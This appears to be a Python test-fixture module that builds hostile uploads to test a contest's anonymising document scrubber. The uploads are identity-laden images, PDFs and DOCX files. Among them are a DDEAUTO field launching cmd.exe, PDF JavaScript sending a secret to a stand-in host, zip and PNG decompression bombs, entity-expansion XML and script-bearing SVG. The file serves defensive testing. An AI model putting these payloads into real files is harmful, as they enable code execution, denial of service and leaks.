"""Hostile and careless uploads, built in code: each plants the author's identity, or an
attack, somewhere a careless scrubber would miss it. Nothing binary is committed.

``IDENTITY`` holds every planted form; a judges' copy must contain none of them once
decompressed (``plain_bytes``), and its body text none once redacted.
"""

import contextlib
import io
import re
import struct
import unicodedata
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.contest.attachments import files

AUTHOR = files.AUTHOR
AGENCY = files.AGENCY
# How the entrant's PDF software wrote them in a standard (Latin-1) font: no Vietnamese marks.
AUTHOR_ASCII = "Nguyen Van A"
AGENCY_ASCII = "UBND quan Ba Dinh"
# Planted only in metadata and embedded files, never in body text, so a leak is unambiguous.
SECRET = "NVA-BADINH-7731"
IDENTITY = (SECRET, AUTHOR_ASCII, files.EMAIL, files.WINDOWS_USER)


def plain_bytes(data: bytes) -> bytes:
    """``data`` followed by every Flate stream and ZIP member inflated, for leak searches."""
    pieces = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        with contextlib.suppress(zlib.error):
            pieces.append(zlib.decompress(match.group(1)))
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            pieces.extend(archive.read(name) for name in archive.namelist())
    return b"".join(pieces)


def _iptc(text: str) -> bytes:
    """A Photoshop APP13 segment holding an IPTC by-line (2:80)."""
    record = b"\x1c\x02\x50" + struct.pack(">H", len(text)) + text.encode()
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(record)) + record
    payload = b"Photoshop 3.0\x00" + resource
    return b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload


def jpeg_with_identity(*, size=(40, 20)) -> bytes:
    exif = Image.Exif()
    exif[0x013B] = SECRET  # Artist
    exif[0x010F] = files.WINDOWS_USER  # Make
    out = io.BytesIO()
    Image.new("RGB", size, "blue").save(
        out,
        "JPEG",
        exif=exif,
        comment=SECRET.encode(),
        xmp=f"<x:xmpmeta><dc:creator>{SECRET}</dc:creator></x:xmpmeta>".encode(),
    )
    data = out.getvalue()
    # IPTC goes right after SOI, where Photoshop writes it.
    return data[:2] + _iptc(SECRET) + data[2:] + b"PK\x03\x04" + SECRET.encode()


def png_with_identity() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_itxt("XML:com.adobe.xmp", f"<dc:creator>{SECRET}</dc:creator>")
    info.add_text("Comment", SECRET, zip=True)
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x013B] = SECRET
    Image.new("RGB", (30, 20), "green").save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


def webp_with_identity() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = SECRET
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "green").save(
        out, "WEBP", exif=exif, xmp=f"<dc:creator>{SECRET}</dc:creator>".encode()
    )
    return out.getvalue()


def png_truncated() -> bytes:
    """A PNG cut inside its image data: readers that pad truncated files show a black image."""
    out = io.BytesIO()
    Image.effect_noise((200, 200), 64).convert("RGB").save(out, "PNG")
    data = out.getvalue()
    return data[: len(data) // 2]


def png_bad_crc() -> bytes:
    data = bytearray(files.image_bytes("PNG", size=(50, 50)))
    idat = data.index(b"IDAT")
    data[idat + 6] ^= 0xFF  # inside the compressed data; the CRC no longer matches
    return bytes(data)


def webp_truncated() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((200, 200), 64).convert("RGB").save(out, "WEBP", quality=90)
    data = out.getvalue()
    return data[: len(data) // 2]


def jpeg_truncated() -> bytes:
    data = files.image_bytes("JPEG", size=(200, 200))
    return data[: len(data) // 2]


def _pdf_stream(data: bytes, entries: dict | None = None) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    for key, value in (entries or {}).items():
        stream[NameObject(key)] = value
    return stream


def _filespec(writer: PdfWriter, name: str, data: bytes):
    embedded = writer._add_object(_pdf_stream(data, {"/Type": NameObject("/EmbeddedFile")}))
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject(name),
                NameObject("/UF"): TextStringObject(name),
                NameObject("/EF"): DictionaryObject({NameObject("/F"): embedded}),
            }
        )
    )


def pdf_text_page(writer: PdfWriter, lines: list[str]) -> None:
    """A page showing ``lines`` in Helvetica, one text-showing operator per line."""
    page = writer.add_blank_page(400, 400)
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
                NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
            }
        )
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
    )
    body = b"".join(
        b"BT /F1 12 Tf 20 %d Td (%s) Tj ET\n" % (360 - 20 * index, line.encode("cp1252"))
        for index, line in enumerate(lines)
    )
    page[NameObject("/Contents")] = writer._add_object(_pdf_stream(body))


def pdf_with_everything() -> bytes:
    """Identity in /Info, XMP, embedded files (/EmbeddedFiles, /AF, an annotation), a comment,
    scripts and actions, a JPEG with EXIF/XMP/IPTC, and the author's name on the first page."""
    writer = PdfWriter()
    pdf_text_page(
        writer,
        [
            "Sang kien: so hoa thu tuc hanh chinh",
            f"Tac gia: {AUTHOR_ASCII}",
            f"Don vi: {AGENCY_ASCII}",
            "Noi dung chinh cua sang kien.",
        ],
    )
    page = writer.pages[0]
    jpeg = jpeg_with_identity()
    image = writer._add_object(
        _image_stream(jpeg, width=40, height=20),
    )
    page["/Resources"][NameObject("/XObject")] = DictionaryObject({NameObject("/Im1"): image})
    contents = page["/Contents"].get_object()
    contents.set_data(contents.get_data() + b"q 40 0 0 20 300 300 cm /Im1 Do Q\n")
    writer.add_metadata({"/Author": SECRET, "/Creator": files.WINDOWS_USER})
    secret_file = f"Ho so cua {SECRET}".encode()
    names = ArrayObject([TextStringObject("cv.txt"), _filespec(writer, "cv.txt", secret_file)])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): names}),
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("a"), _js()])}
            ),
        }
    )
    writer.root_object[NameObject("/AF")] = ArrayObject([_filespec(writer, "af.txt", secret_file)])
    writer.root_object[NameObject("/OpenAction")] = _js()
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js()})
    rect = ArrayObject([NumberObject(n) for n in (10, 10, 30, 30)])
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): rect,
            NameObject("/FS"): _filespec(writer, "annot.txt", secret_file),
            NameObject("/T"): TextStringObject(SECRET),
        }
    )
    comment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Text"),
            NameObject("/Rect"): rect,
            NameObject("/T"): TextStringObject(SECRET),
            NameObject("/Contents"): TextStringObject(f"Góp ý của {SECRET}"),
        }
    )
    writer.add_annotation(page_number=0, annotation=attachment)
    writer.add_annotation(page_number=0, annotation=comment)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _image_stream(jpeg: bytes, *, width: int, height: int) -> StreamObject:
    stream = DecodedStreamObject()
    stream._data = jpeg
    for key, value in {
        "/Type": NameObject("/XObject"),
        "/Subtype": NameObject("/Image"),
        "/Width": NumberObject(width),
        "/Height": NumberObject(height),
        "/ColorSpace": NameObject("/DeviceRGB"),
        "/BitsPerComponent": NumberObject(8),
        "/Filter": NameObject("/DCTDecode"),
    }.items():
        stream[NameObject(key)] = value
    return stream


def _js() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(f"app.launchURL('https://x.test/{SECRET}');"),
        }
    )


def pdf_naming_author() -> bytes:
    """Clean metadata, but the body names the author, a co-author's agency and an e-mail."""
    writer = PdfWriter()
    pdf_text_page(
        writer,
        [
            "Sang kien cai cach",
            f"Nhom tac gia: {AUTHOR_ASCII.upper()} va cong su",
            f"Co quan: {AGENCY_ASCII}.",
        ],
    )
    pdf_text_page(writer, ["Trang hai khong co ten.", f"Lien he: {AUTHOR_ASCII}"])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted_aes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="mo", owner_password="mat-khau", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted_owner_only() -> bytes:
    return files.encrypted_pdf_bytes()


def pdf_truncated() -> bytes:
    data = pdf_naming_author()
    return data[: len(data) // 3]


def _document_xml(body: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{files.W_NS}" xmlns:r="{files.R_NS}"><w:body>{body}'
        "</w:body></w:document>"
    )


def docx_with_everything() -> bytes:
    """docx_parts(identifying=True) plus a thumbnail, fetching and executing fields, a linked
    picture, and the author's name split across runs in the body."""
    parts = files.docx_parts(identifying=True)
    parts["docProps/thumbnail.jpeg"] = jpeg_with_identity()
    rels = parts["_rels/.rels"]
    parts["_rels/.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/></Relationships>',
    )
    document_rels = parts["word/_rels/document.xml.rels"]
    parts["word/_rels/document.xml.rels"] = document_rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId8" Type="{files.OFFICE_RELS}/image" '
        f'Target="\\\\{files.WINDOWS_USER}-pc\\share\\logo.png" TargetMode="External"/>'
        "</Relationships>",
    )
    fields = (
        # A complex field whose instruction is split across runs, as Word writes it.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">PICTURE "http://x.test/t.png" \\d </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>ảnh</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '&quot;/k calc&quot; ">'
        "<w:r><w:t>kết quả</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:fldSimple w:instr="&#76;INK Excel.Sheet.12 '
        '&quot;\\\\\\\\srv\\\\a.xlsx&quot; "/></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p>"
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
        '2006/main" r:link="rId8"/></w:drawing></w:r></w:p>'
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        "</w:body>", fields + "</w:body>"
    )
    for part in ("docProps/core.xml", "docProps/app.xml", "docProps/custom.xml"):
        parts[part] = parts[part].replace(AUTHOR, SECRET)
    parts["word/comments.xml"] = parts["word/comments.xml"].replace(
        "Cần thêm số liệu", f"Nhận xét của {SECRET}"
    )
    return files.zip_bytes(parts)


def docx_naming_author() -> bytes:
    """A plain document whose body names the author (split across runs) and the agency."""
    parts = files.docx_parts()
    body = (
        "<w:p><w:r><w:t>Sáng kiến cải cách</w:t></w:r></w:p>"
        '<w:p><w:r><w:t xml:space="preserve">Tác giả: Nguyễn </w:t></w:r>'
        '<w:r><w:rPr><w:b/></w:rPr><w:t>Văn</w:t></w:r><w:r><w:t xml:space="preserve"> A, '
        "trưởng phòng.</w:t></w:r></w:p>"
        # Decomposed (NFD) and upper case, as some Mac editors write it.
        f"<w:p><w:r><w:t>{unicodedata.normalize('NFD', AGENCY.upper())}</w:t></w:r></w:p>"
    )
    parts["word/document.xml"] = _document_xml(body)
    return files.zip_bytes(parts)


def docx_zip_bomb_lying() -> bytes:
    """word/document.xml inflates to 1 GB, while both headers say it is 1 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.docx_parts().items():
            if name != "word/document.xml":
                archive.writestr(name, data)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1024 * 1024)
    deflated = b"".join(compressor.compress(chunk) for _ in range(1024)) + compressor.flush()
    return _append_lying_member(out.getvalue(), "word/document.xml", deflated, claimed=1024)


def _append_lying_member(package: bytes, name: str, deflated: bytes, *, claimed: int) -> bytes:
    """``package`` with one more deflated member whose headers claim ``claimed`` bytes."""
    end = package.rindex(b"PK\x05\x06")
    entries, directory_size, directory_offset = struct.unpack("<HLL", package[end + 10 : end + 20])
    body = package[:directory_offset]
    directory = package[directory_offset : directory_offset + directory_size]
    encoded = name.encode()
    crc = 0  # never reached: the cap stops inflation first
    local = (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            claimed,
            len(encoded),
            0,
        )
        + encoded
    )
    offset = len(body)
    central = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            claimed,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + encoded
    )
    body += local + deflated
    new_directory = directory + central
    end_record = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        entries + 1,
        entries + 1,
        len(new_directory),
        len(body),
        0,
    )
    return body + new_directory + end_record


def docx_nested_bomb_ratio() -> bytes:
    """Honest headers, 200 MB of zeros in one member: refused from the directory alone."""
    return files.docx_with_zeros(name="word/media/pad.bin", size=200 * 1024 * 1024)


def docx_password() -> bytes:
    """What Word writes for a password-protected .docx: an OLE file with EncryptedPackage."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return header + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512


def docx_with_doctype() -> bytes:
    parts = files.docx_parts()
    parts["word/document.xml"] = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        + parts["word/document.xml"].split("?>", 1)[1].replace("thủ tục", "&b;")
    )
    return files.zip_bytes(parts)


def docm_macro() -> bytes:
    parts = files.docx_parts(main_type=files.DOCM_MAIN)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 100
    return files.zip_bytes(parts)


def html_named_pdf() -> bytes:
    return b"<html><body><script>alert(1)</script></body></html>"


def polyglot_html_then_pdf() -> bytes:
    return b"<html><!-- " + files.pdf_bytes() + b" --></html>"


def png_pixel_bomb() -> bytes:
    return files.png_declaring(60_000, 60_000)


def png_idat_bomb() -> bytes:
    """A PNG whose declared size is allowed but whose IDAT inflates far past it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 100, 100, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(b"\0" * (1024 * 1024)) for _ in range(512))
    data += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def xlsx() -> bytes:
    return files.xlsx_bytes()


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _pdf_page(writer: PdfWriter, body: bytes, fonts: dict, xobjects: dict | None = None) -> None:
    page = writer.add_blank_page(400, 400)
    resources = DictionaryObject(
        {
            NameObject("/Font"): DictionaryObject(
                {NameObject(name): writer._add_object(font) for name, font in fonts.items()}
            )
        }
    )
    if xobjects:
        resources[NameObject("/XObject")] = DictionaryObject(
            {NameObject(name): writer._add_object(item) for name, item in xobjects.items()}
        )
    page[NameObject("/Resources")] = resources
    page[NameObject("/Contents")] = writer._add_object(_pdf_stream(body))


def _helvetica() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
            NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
        }
    )


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_naming_author_split() -> bytes:
    """The name cut the ways PDF producers cut text: kerned TJ pieces, a word per operator
    moved along the line with Td, a bold font in the middle, and across two lines."""
    writer = PdfWriter()
    bold = _helvetica()
    bold[NameObject("/BaseFont")] = NameObject("/Helvetica-Bold")
    body = (
        b"BT /F1 12 Tf 20 360 Td [(Nhom: ) -20 (Ngu) 15 (yen) -278 (Van) -278 (A) ( va cong su)] TJ"
        b" ET\n"
        b"BT /F1 12 Tf 20 340 Td (Tac gia ) Tj (Nguyen) Tj 48 0 Td /F2 12 Tf (Van) Tj"
        b" /F1 12 Tf 30 0 Td (A.) Tj ET\n"
        b"BT /F1 12 Tf 14 TL 20 320 Td (Don vi: UBND quan) Tj (Ba Dinh, Annam giu lai.) ' ET\n"
    )
    _pdf_page(writer, body, {"/F1": _helvetica(), "/F2": bold})
    return _written(writer)


def pdf_naming_author_weasyprint() -> bytes:
    """What WeasyPrint writes (Identity-H fonts with a ToUnicode map, one TJ per line), with
    the name in Vietnamese across bold and italic runs."""
    import weasyprint

    html = (
        f"<p>Sáng kiến cải cách thủ tục.</p><p>Tác giả: <b>{AUTHOR.split()[0]}</b> "
        f"<i>{' '.join(AUTHOR.split()[1:])}</i>, {AGENCY}.</p><p>Phần còn lại giữ nguyên.</p>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def pdf_naming_author_in_cjk_font() -> bytes:
    """The name in a composite font with a variable-length CJK encoding (GBK): readers show
    it, the redaction cannot cut it glyph by glyph."""
    writer = PdfWriter()
    descendant = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/CIDFontType0"),
            NameObject("/BaseFont"): NameObject("/SimSun"),
            NameObject("/CIDSystemInfo"): DictionaryObject(
                {
                    NameObject("/Registry"): TextStringObject("Adobe"),
                    NameObject("/Ordering"): TextStringObject("GB1"),
                    NameObject("/Supplement"): NumberObject(2),
                }
            ),
        }
    )
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type0"),
            NameObject("/BaseFont"): NameObject("/SimSun"),
            NameObject("/Encoding"): NameObject("/GBK-EUC-H"),
            NameObject("/DescendantFonts"): ArrayObject([writer._add_object(descendant)]),
        }
    )
    body = b"BT /F1 12 Tf 20 360 Td (Tac gia: %s) Tj ET\n" % AUTHOR_ASCII.encode()
    _pdf_page(writer, body, {"/F1": font})
    return _written(writer)


def pdf_scan_with_text_layer() -> bytes:
    """A scanned page: the picture, and the invisible text an OCR program laid over it."""
    writer = PdfWriter()
    image = _image_stream(files.image_bytes("JPEG", size=(40, 20)), width=40, height=20)
    body = (
        b"q 400 0 0 400 0 0 cm /Im1 Do Q\n"
        b"BT 3 Tr /F1 12 Tf 20 360 Td (Tac gia: %s) Tj ET\n" % AUTHOR_ASCII.encode()
    )
    _pdf_page(writer, body, {"/F1": _helvetica()}, {"/Im1": image})
    return _written(writer)


def docx_naming_author_everywhere() -> bytes:
    """The name in a header, a footnote, a tracked deletion, after a tab, and split across
    runs with the agency written in NFD."""
    parts = files.docx_parts()
    body = (
        "<w:p><w:r><w:t>Nội dung chính.</w:t></w:r></w:p>"
        '<w:p><w:r><w:t xml:space="preserve">Người viết:</w:t></w:r><w:r><w:tab/></w:r>'
        "<w:r><w:t>Nguy</w:t></w:r><w:r><w:t>ễn Văn A</w:t></w:r></w:p>"
        '<w:p><w:del w:id="3" w:author=""><w:r><w:delText xml:space="preserve">'
        f"{AGENCY} </w:delText></w:r></w:del><w:r><w:t>còn lại.</w:t></w:r></w:p>"
    )
    parts["word/document.xml"] = _document_xml(body)
    header = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:hdr xmlns:w="{files.W_NS}"><w:p><w:r><w:t>'
        f"{unicodedata.normalize('NFD', AGENCY)}</w:t></w:r></w:p></w:hdr>"
    )
    parts["word/header1.xml"] = header
    parts["word/footnotes.xml"] = header.replace("w:hdr", "w:footnotes").replace(
        unicodedata.normalize("NFD", AGENCY), f"Liên hệ {AUTHOR.upper()}"
    )
    return files.zip_bytes(parts)


def pdf_naming_author_in_form() -> bytes:
    """The agency in a page header drawn from a Form XObject, as some producers write it."""
    writer = PdfWriter()
    form = _pdf_stream(
        b"BT /F1 10 Tf 20 380 Td (%s - Phong Noi vu) Tj ET" % AGENCY_ASCII.encode(),
        {
            "/Type": NameObject("/XObject"),
            "/Subtype": NameObject("/Form"),
            "/BBox": ArrayObject([NumberObject(n) for n in (0, 0, 400, 400)]),
            "/Resources": DictionaryObject(
                {NameObject("/Font"): DictionaryObject({NameObject("/F1"): _helvetica()})}
            ),
        },
    )
    body = b"/Fm1 Do BT /F1 12 Tf 20 300 Td (Noi dung.) Tj ET\n"
    _pdf_page(writer, body, {"/F1": _helvetica()}, {"/Fm1": form})
    return _written(writer)
